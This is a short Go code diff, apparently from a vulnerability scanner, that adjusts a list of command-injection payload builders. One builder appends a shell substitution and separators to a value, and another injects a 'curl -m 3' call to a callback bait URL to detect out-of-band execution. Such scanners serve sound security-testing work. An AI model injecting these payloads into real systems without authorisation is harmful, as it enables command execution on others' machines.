@@ -23,7 +23,7 @@ func dial(b attack.Bait) string {
 // of the whole command.
 var calling = []func(v string, b attack.Bait) string{
 	func(v string, b attack.Bait) string {
-		return v + "$" + dial(b) + closing("&")("", dial(b))
+		return v + "$" + dial(b) + closing("&", " ")("", dial(b))
 	},
 	func(v string, b attack.Bait) string { return whole(v, "curl -m 3 "+b.URL) },
 }
